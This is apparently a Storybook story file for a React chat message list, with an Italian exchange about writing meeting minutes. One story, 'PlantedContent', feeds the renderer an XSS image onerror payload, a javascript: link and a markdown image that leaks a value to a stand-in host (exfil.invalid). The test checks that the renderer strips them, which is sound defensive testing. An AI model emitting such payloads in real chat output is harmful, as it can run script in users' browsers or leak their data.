import type { Meta, StoryObj } from "@storybook/react-vite";
import { expect, within } from "storybook/test";
import type { ChatMessage } from "../message";
import { MARKERS } from "../markers";
import { MessageList } from "./message-list";

const question: ChatMessage = { id: "u1", role: "user", content: "Come preparo un verbale di riunione?", timestamp: 0 };
const answer: ChatMessage = {
  id: "a1",
  role: "assistant",
  timestamp: 0,
  firstCharacterMs: 640,
  content: [
    "Un buon verbale ha **quattro parti**:",
    "",
    "1. Intestazione: data, luogo, presenti.",
    "2. Ordine del giorno.",
    "3. Decisioni, con chi fa cosa ed entro quando.",
    "4. Firme.",
    "",
    "| Parte | Chi la scrive |",
    "|---|---|",
    "| Decisioni | Il segretario |",
    "",
    "```text",
    "Verbale n. 12 — 3 marzo",
    "```",
    "",
    "Approfondisci su [Wikipedia](https://it.wikipedia.org/wiki/Verbale).",
  ].join("\n"),
};

const meta = {
  title: "conversation/MessageList",
  component: MessageList,
  args: { messages: [question, answer], partial: "", loading: false, renderCard: (card) => <p>[{card}]</p> },
} satisfies Meta<typeof MessageList>;
export default meta;
type Story = StoryObj<typeof meta>;

export const Conversation: Story = {
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    // The renderer loads lazily: on a busy machine that can take a few seconds.
    await expect(await canvas.findByRole("table", {}, { timeout: 30_000 })).toBeVisible();
    await expect(canvas.getByRole("link", { name: "Wikipedia" })).toHaveAttribute("rel", "noopener noreferrer nofollow");
  },
};

export const Streaming: Story = {
  args: { messages: [question], partial: "Un buon verbale ha **quattro parti**:\n\n1. Intestazione", loading: true },
};

export const PlantedContent: Story = {
  args: {
    messages: [
      {
        id: "a2",
        role: "assistant",
        timestamp: 0,
        content: '<img src=x onerror="alert(1)"> ![logo](https://exfil.invalid/leak?q=segreto) [clicca](javascript:alert(1))',
      },
    ],
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(await canvas.findByText(/immagine non caricata/, {}, { timeout: 30_000 })).toBeVisible();
    await expect(canvasElement.querySelector("img")).toBeNull();
    await expect(canvas.queryByRole("link")).toBeNull();
  },
};

export const WithCard: Story = {
  args: { messages: [question, { id: "q", role: "assistant", content: "", card: MARKERS.quotaExceeded, timestamp: 0 }] },
};
